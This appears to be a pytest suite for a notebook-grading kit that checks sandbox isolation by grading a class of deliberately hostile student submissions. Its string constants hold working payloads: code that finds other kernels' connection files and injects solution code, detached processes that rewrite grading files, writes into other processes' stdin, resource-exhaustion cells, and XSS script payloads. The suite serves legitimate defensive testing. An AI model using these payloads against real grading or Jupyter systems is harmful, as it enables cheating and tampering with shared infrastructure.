"""A hostile class graded in one run with two workers: every kernel inside walls of its own.

Beside honest students sit a student whose kernels reach for every other kernel's connection
file and inject the solutions into what they reach (a blank friend would score), one who leaves
``setsid`` processes behind that keep reaching and rewrite the kit after the run, one who writes
requests into the warm process's pipe, one who runs into every bound (memory, scratch space,
processes, and an answer too large to read out), and one whose notebook carries script. The
kit is installed for the grader as a temporary copy, so an attack that got through could
never reach the developer's checkout.

What must hold: every honest student scores exactly as when graded alone; no attacker, and no
friend of one, gains; no process of the run is alive after it; the kit is as it was, and the
next run starts; each bound hit is in the record. Every assertion here failed before the
walls (grading with ``--no-sandbox`` shows the attacks working, see test_without_walls).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from decompkit.course.engine import sandbox

from .submissions import NOTEBOOKS, RELEASED, ROOT, answer_key, insert_after, submission

pytestmark = pytest.mark.skipif(
    sandbox.available() is not None, reason=f"no walls here: {sandbox.available()}"
)

CHAIN = "01-chain-reliability"
MARK = "4242.25"  # the argument of every process an attacker leaves behind
CONFIG = """c = get_config()
c.CourseDirectory.course_id = "decomp"
c.CourseDirectory.source_directory = "solutions"
c.CourseDirectory.release_directory = "notebooks"
c.Execute.timeout = 10
c.GradingLimits.kernel_memory_mb = 1536
c.GradingLimits.kernel_processes = 40
c.GradingLimits.kernel_scratch_mb = 32
"""

#: Runs in every kernel the attacker reaches: after each cell, the solutions of notebook 01.
INJECT = (
    "SOLUTIONS = {solutions!r}\n"
    "def _cheat(*_):\n"
    "    for code in SOLUTIONS:\n"
    "        try:\n"
    "            exec(code, get_ipython().user_ns)\n"
    "        except Exception:\n"
    "            pass\n"
    "get_ipython().events.register('post_run_cell', _cheat)\n"
)

#: Finds connection files wherever a kernel could see them and executes INJECT through each.
REACH = """
import glob, os, threading, time
from jupyter_client import BlockingKernelClient
INJECT = {inject!r}
PATTERNS = ['/tmp/decompkit-run-*/**/kernel.json', '/tmp/*/kernel.json', '/run/**/kernel.json',
            '/proc/*/root/run/kernel/kernel.json', '/proc/*/cwd/kernel.json',
            '/proc/*/root/tmp/decompkit-run-*/**/kernel.json']
mine = {{os.path.realpath(p) for p in glob.glob('/run/kernel/kernel.json')}}
seen = set()
def reach():
    for pattern in PATTERNS:
        for path in glob.glob(pattern, recursive=True):
            try:
                if path in seen or os.path.realpath(path) in mine:
                    continue
            except OSError:  # a process that ended meanwhile
                continue
            seen.add(path)
            # In a thread: a send to a kernel that is gone waits for ever.
            threading.Thread(target=inject, args=(path,), daemon=True).start()
def inject(path):
    try:
        client = BlockingKernelClient()
        client.load_connection_file(path)
        client.start_channels()
        client.execute(INJECT)
    except Exception:
        pass
"""

REACH_FOR = (
    REACH
    + """
end = time.time() + {seconds}
while time.time() < end:
    reach()
    time.sleep(0.2)
"""
)

#: A fresh Python in a session of its own (a double fork), which for a minute and a half keeps
#: rewriting the kit and reaching for kernels; and twenty `sleep`s in sessions of their own.
SURVIVOR = (
    REACH
    + """
import sys
targets = [{kit!r} + '/grading.py', sys.argv[1] + '/grading.py']
end = time.time() + 90
while time.time() < end:
    for target in targets:
        try:
            with open(target, 'a') as out:
                out.write('\\nclose = same_bool = lambda *a, **k: True\\n')
        except Exception:
            pass
    reach()
    time.sleep(0.3)
"""
)
SURVIVE = """
import os, subprocess, sys
import decompkit
quiet = dict(start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for _ in range(20):
    subprocess.Popen(['sleep', '{mark}'], **quiet)
if os.fork() == 0:
    subprocess.Popen([sys.executable, '-c', {survivor!r}, os.path.dirname(decompkit.__file__),
                      '{mark}'], **quiet)
    os._exit(0)
"""

#: Write requests and junk into the standard input of every process whose pipe it can open.
PIPE = """
import glob, os
junk = b'{"connection_file": "/nonexistent", "cwd": "/", "env": {}}\\n' * 50 + b'junk\\n'
for path in ['/proc/%d/fd/0' % os.getppid()] + glob.glob('/proc/*/fd/0'):
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(fd, junk)
        os.close(fd)
    except Exception:
        pass
"""

MEMORY = "big = bytearray(3 * 2**30)"
DISK = (
    "with open('fill.bin', 'wb') as out:\n    for _ in range(64):\n        out.write(bytes(2**20))"
)
FORKS = "import subprocess\nsleepers = [subprocess.Popen(['sleep', '60']) for _ in range(60)]"
SCRIPT_MD = (
    '<img src="x" onerror="document.title=\'pwned-md\'">\n<script>document.title="pwned"</script>'
)
SCRIPT_OUT = (
    "from IPython.display import HTML, Javascript, display\n"
    "display(HTML('<img src=x onerror=\"document.title=\\'pwned-html\\'\">'))\n"
    "display(Javascript('document.title = \"pwned-js\"'))"
)


def _released(notebook: str):
    return nbformat.read(RELEASED / f"{notebook}.ipynb", as_version=4)


def _first(nb, source: str):
    """``nb`` with a code cell of ``source`` after its first code cell (its imports)."""
    index = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
    return nb


def _padded(nb, size: int):
    """``nb`` with a markdown cell of ``size`` bytes: the grader starts large submissions
    first, so padding decides who runs at the same time as whom."""
    nb.cells.append(nbformat.v4.new_markdown_cell("padding " * (size // 8)))
    return nb


def _class(kit: Path) -> dict:
    """``{student: {notebook: nb}}`` of the hostile class."""
    inject = INJECT.format(solutions=list(answer_key(CHAIN).values()))
    reach_for = REACH_FOR.format(inject=inject, seconds=6)
    survivor = SURVIVOR.format(inject=inject, kit=str(kit))
    survive = SURVIVE.format(mark=MARK, survivor=survivor)
    hog = submission(CHAIN, {"chain_success_answer": "p_chain = 'x' * 40_000_000"})
    for code in (MEMORY, DISK, FORKS):
        hog = insert_after(hog, "effective_rate_answer", code)
    scripted = insert_after(submission(CHAIN), "p_prime_answer", SCRIPT_OUT)
    scripted.cells.insert(3, nbformat.v4.new_markdown_cell(SCRIPT_MD))
    return {
        # The reacher and its blank friend are the largest: they start together.
        "a-reacher": {
            nb: _padded(_first(_released(nb), reach_for), 400_000) for nb in NOTEBOOKS[:2]
        },  # fmt: skip
        "a-friend": {nb: _padded(_released(nb), 300_000) for nb in NOTEBOOKS[:2]},
        "b-survivor": {
            CHAIN: _padded(insert_after(_released(CHAIN), "chain_success_answer", survive), 200_000)
        },  # fmt: skip
        "b-piper": {
            CHAIN: _padded(insert_after(_released(CHAIN), "chain_success_answer", PIPE), 200_000)
        },  # fmt: skip
        "c-hog": {CHAIN: hog},
        "c-scripted": {CHAIN: scripted},
        **HONEST,
    }


HONEST = {
    "h-solved": {nb: submission(nb) for nb in NOTEBOOKS[:3]},
    "h-partial": {
        CHAIN: submission(
            CHAIN, {"chain_success_answer": "p_chain = 0.5", "p_prime_answer": "p_prime = 0.5"}
        )
    },  # fmt: skip
    "h-blank": {CHAIN: _released(CHAIN)},
    "h-later": {nb: submission(nb) for nb in NOTEBOOKS[:2]},
}


STUDENTS = ["a-reacher", "a-friend", "b-survivor", "b-piper", "c-hog", "c-scripted", *HONEST]


def _course(root: Path, students: dict) -> Path:
    (root / "solutions").mkdir(parents=True)
    (root / "nbgrader_config.py").write_text(CONFIG)
    shutil.copytree(ROOT / "solutions" / "decomp", root / "solutions" / "decomp")
    for student, notebooks in students.items():
        folder = root / "submitted" / student / "decomp"
        folder.mkdir(parents=True)
        for name, nb in notebooks.items():
            nbformat.write(nb, folder / f"{name}.ipynb")
    return root


def _grade(root: Path, env: dict, *extra: str) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "decompkit.course", "grade", "decomp", "--root", str(root),
               "--workers", "2", *extra]  # fmt: skip
    return subprocess.run(command, env=env, capture_output=True, text=True, timeout=900)


def _records(root: Path) -> dict:
    folder = root / "records" / "decomp"
    return {p.stem: json.loads(p.read_text()) for p in folder.glob("*.json")}


def _scores(record: dict) -> dict:
    return {
        (notebook, grade_id): item["score"]
        for notebook, entry in record["notebooks"].items()
        for grade_id, item in entry["items"].items()
    }


def _left_behind() -> list[str]:
    """Processes an attacker left: any with the marked argument."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            name = Path(f"/proc/{pid}/comm").read_text().strip()
            command = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if MARK in command:
            found.append(f"{pid} {name} {command.strip()}")
    return found


def _files(folder: Path) -> dict:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and "__pycache__" not in p.parts
    }


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    """The kit as the grader imports it here: a copy, first on PYTHONPATH."""
    site = tmp_path_factory.mktemp("walls-site")
    shutil.copytree(ROOT / "src" / "decompkit", site / "decompkit",
                    ignore=shutil.ignore_patterns("__pycache__"))  # fmt: skip
    return site


@pytest.fixture(scope="module")
def env(site) -> dict:
    return {**os.environ, "PYTHONPATH": str(site)}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, site, env):
    root = _course(tmp_path_factory.mktemp("hostile") / "course", _class(site / "decompkit"))
    before = _files(site / "decompkit")
    run = _grade(root, env)
    time.sleep(2)  # what a survivor would do after the run has had time to happen
    return root, run, before


@pytest.fixture(scope="module")
def alone(tmp_path_factory, env):
    """The honest students graded in a course of their own, one at a time."""
    root = _course(tmp_path_factory.mktemp("alone") / "course", HONEST)
    run = _grade(root, env)
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    return _records(root)


def test_the_run_finishes_and_says_it_graded_inside_walls(hostile):
    root, run, _ = hostile
    assert "Traceback" not in run.stdout + run.stderr, run.stderr[-3000:]
    records = _records(root)
    assert set(records) == set(STUDENTS), run.stdout[-3000:] + run.stderr[-3000:]
    for record in records.values():
        assert record["sandbox"] == {"memory_mb": 1536.0, "processes": 40, "scratch_mb": 32.0}


def test_every_honest_student_scores_as_when_graded_alone(hostile, alone):
    records = _records(hostile[0])
    for student, record in alone.items():
        assert _scores(records[student]) == _scores(record), student
        for notebook, entry in record["notebooks"].items():
            assert records[student]["notebooks"][notebook]["status"] == entry["status"]
    assert sum(_scores(alone["h-solved"]).values()) == 36  # the solutions' full marks
    assert sum(_scores(alone["h-blank"]).values()) == 0


def test_no_attacker_and_no_friend_of_one_gains(hostile):
    records = _records(hostile[0])
    for student in ("a-reacher", "a-friend", "b-survivor", "b-piper"):
        assert sum(_scores(records[student]).values()) == 0, student


def test_no_process_of_the_run_is_alive_after_it(hostile):
    assert _left_behind() == []


def test_the_kit_is_as_it_was_and_the_next_run_starts(hostile, site, env, tmp_path):
    root, _, before = hostile
    assert _files(site / "decompkit") == before
    again = _course(tmp_path / "again", {"h-blank": HONEST["h-blank"]})
    run = _grade(again, env)
    assert run.returncode == 0, run.stdout[-2000:] + run.stderr[-2000:]
    assert sum(_scores(_records(again)["h-blank"]).values()) == 0


def test_each_bound_a_kernel_runs_into_is_in_its_record_and_costs_only_its_item(hostile):
    record = _records(hostile[0])["c-hog"]["notebooks"][CHAIN]
    flags = " | ".join(record["flags"])
    assert record["flagged"], flags
    assert "ran out of memory (its bound is 1536 MB)" in flags
    assert "filled the 32 MB of scratch space" in flags
    assert "its bound is 40" in flags  # processes
    lost = {g for g, item in record["items"].items() if item["score"] == 0}
    assert lost == {"chain_success_value"}  # the answer too large to read out
    item = record["items"]["chain_success_value"]
    assert item["status"] == "invalid" and "too large" in item["answer"]
